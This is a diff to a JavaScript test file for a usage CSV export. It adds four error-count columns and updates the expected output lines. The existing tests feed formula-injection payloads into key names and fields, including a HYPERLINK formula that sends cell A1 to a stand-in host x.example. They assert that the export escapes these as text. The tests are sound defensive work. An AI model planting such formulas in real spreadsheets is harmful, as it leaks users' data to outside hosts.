@@ -85,6 +85,10 @@ describe('usage CSV', () => {
     credits: 40,
     cacheHits: 1,
     refused: 0,
+    rateLimited: 0,
+    outOfCredits: 0,
+    forbidden: 0,
+    clientErrors: 0,
     errors: 0,
     ...over,
   });
@@ -94,21 +98,21 @@ describe('usage CSV', () => {
     for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
       const line = cells(usageCsv([row({ name: `${lead}HYPERLINK("http://x.example/?"&A1,"y")` })]));
       const name = `"'${lead}HYPERLINK(""http://x.example/?""&A1,""y"")"`;
-      expect(line).toBe(`2026-11-01,key_aaaaaaaaaaaaaaaa,${name},1,token-balances,3,40,1,0,0`);
+      expect(line).toBe(`2026-11-01,key_aaaaaaaaaaaaaaaa,${name},1,token-balances,3,40,1,0,0,0,0,0,0`);
     }
     expect(cells(usageCsv([row({ key: '=1+1', chain: '+1', route: '@SUM(A1)' })]))).toBe(
-      `2026-11-01,"'=1+1",acme,"'+1","'@SUM(A1)",3,40,1,0,0`,
+      `2026-11-01,"'=1+1",acme,"'+1","'@SUM(A1)",3,40,1,0,0,0,0,0,0`,
     );
     // A semicolon starts a cell for spreadsheets set to split on it: such a cell is quoted.
-    expect(cells(usageCsv([row({ name: 'a;=1+1' })]))).toBe(`2026-11-01,key_aaaaaaaaaaaaaaaa,"a;=1+1",1,token-balances,3,40,1,0,0`);
+    expect(cells(usageCsv([row({ name: 'a;=1+1' })]))).toBe(`2026-11-01,key_aaaaaaaaaaaaaaaa,"a;=1+1",1,token-balances,3,40,1,0,0,0,0,0,0`);
   });
 
   it('leaves numbers numbers, negative ones included, and plain names as they were', () => {
     expect(cells(usageCsv([row({ credits: -20, requests: 0, errors: 1 })]))).toBe(
-      '2026-11-01,key_aaaaaaaaaaaaaaaa,acme,1,token-balances,0,-20,1,0,1',
+      '2026-11-01,key_aaaaaaaaaaaaaaaa,acme,1,token-balances,0,-20,1,0,0,0,0,0,1',
     );
-    expect(cells(usageCsv([row({ name: null })]))).toBe('2026-11-01,key_aaaaaaaaaaaaaaaa,,1,token-balances,3,40,1,0,0');
-    expect(cells(usageCsv([row({ name: 'a-b c@d' })]))).toBe('2026-11-01,key_aaaaaaaaaaaaaaaa,a-b c@d,1,token-balances,3,40,1,0,0');
+    expect(cells(usageCsv([row({ name: null })]))).toBe('2026-11-01,key_aaaaaaaaaaaaaaaa,,1,token-balances,3,40,1,0,0,0,0,0,0');
+    expect(cells(usageCsv([row({ name: 'a-b c@d' })]))).toBe('2026-11-01,key_aaaaaaaaaaaaaaaa,a-b c@d,1,token-balances,3,40,1,0,0,0,0,0,0');
   });
 
   it('a key named as a formula is exported as text by GET /usage?format=csv', async () => {
